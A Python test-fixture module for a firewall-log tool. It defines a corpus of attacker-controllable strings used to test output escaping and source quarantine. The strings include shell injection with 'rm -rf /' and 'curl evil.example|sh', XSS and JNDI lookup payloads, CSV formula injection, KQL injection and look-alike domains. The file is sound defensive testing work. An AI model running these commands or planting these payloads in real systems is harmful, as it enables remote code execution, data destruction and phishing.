"""The shared hostile corpus: text an attacker can get into a firewall log (FQDN, SNI, URL, rule name,
DNS name, even a source field), and the checks every output is held to.

Every command and every output format is driven with this corpus (tests/test_escape.py for the
helpers; the command and report tests for the outputs). Add a case here and every output is tested
against it.
"""

from __future__ import annotations

import re

# name -> text. Each targets one medium; all must come out of every medium harmless.
TEXTS: dict[str, str] = {
    # shell
    "command substitution": "$(id).example.com",
    "backticks": "`id`.example.com",
    "shell chain": "a.example.com; rm -rf / && curl evil.example|sh",
    "quotes": "it's \"quoted\" 'twice'",
    # Rich terminal markup
    "rich style": "[bold red]x[/bold red]",
    "rich link": "[link=https://evil.example]click me[/link]",
    "rich bad close": "[/x]",
    "rich lone bracket": "[",
    "rich emoji code": "ok:white_check_mark:\\:x:.example.com",
    # terminal control sequences
    "ansi colour": "\x1b[31mred\x1b[0m",
    "osc 8 hyperlink": "\x1b]8;;https://evil.example\x1b\\link\x1b]8;;\x1b\\",
    "bell and backspace": "ok\x07\x08\x08hidden",
    "carriage return overwrite": "allowed.example.com\rdenied",
    "c1 control": "a\x9bb",
    # Markdown / tables / HTML
    "pipe": "rule|with|pipes",
    "table row": "| fake | row |",
    "newline heading": "name\n## Injected heading",
    "crlf": "line1\r\nline2",
    "markdown emphasis": "**bold** _it_ ~~s~~",
    "markdown link": "[click](https://evil.example)",
    "html script": "</script><script>alert(1)</script>",
    "html attribute": "\" onmouseover=\"alert(1)",
    "html img": "<img src=x onerror=alert(1)>",
    "html comment": "<!-- x -->",
    "javascript url": "javascript:alert(1)",
    # templates and formats
    "hcl template": "${jndi:ldap://evil.example/a}",
    "hcl directive": "%{ for x in y }x%{ endfor }",
    "bicep interpolation": "${subscription().id}",
    "jinja": "{{7*7}}",
    "csv formula": "=cmd|' /C calc'!A0",
    "csv plus": "+1+1",
    "csv at": "@SUM(A1:A9)",
    "kql injection": "\" | where 1==1 | take 10 //",
    # look-alikes and invisible characters
    "punycode look-alike": "xn--pypal-4ve.com",
    "cyrillic look-alike": "p\u0430ypal.com",
    "bidi override": "moc.elgoog\u202e.example.com",
    "zero width": "goo\u200bgle.com",
    "line separator": "a\u2028b",
    # sizes
    "long label": "a" * 300 + ".example.com",
    "64-char label": "b" * 64 + ".example.com",
}

# Source fields that are not an IP address: they must be quarantined at ingest and can never
# become a rule's source (never "*", never an empty list).
NON_IP_SOURCES: list[str] = [
    "$(id).example.com",
    "10.0.0.1; rm -rf /",
    "10.0.0.0/8",
    "*",
    "any",
    "999.1.1.1",
    "10.0.0.1\n10.0.0.2",
    "[bold]10.0.0.1[/bold]",
    "",
]

# Names that must never be proposed in an allow rule, in any format.
NEVER_PROPOSED: list[str] = [
    "xn--pypal-4ve.com",
    "p\u0430ypal.com",
    "$(id).example.com",
    "`id`.example.com",
    "a" * 300 + ".example.com",
    "b" * 64 + ".example.com",
]

ESC = "\x1b"
_RAW_CONTROL = re.compile(r"[\x00-\x08\x0b-\x1f\x7f-\x9f\u200b-\u200f\u202a-\u202e\u2028\u2029\u2066-\u2069]")


def raw_controls(text: str) -> list[str]:
    """Raw control/format characters in an output (tabs and newlines of the format itself are allowed)."""
    return sorted({f"U+{ord(c):04X}" for c in _RAW_CONTROL.findall(text)})


def assert_no_raw_controls(text: str, where: str = "output") -> None:
    found = raw_controls(text)
    assert not found, f"{where} contains raw control characters {found}"
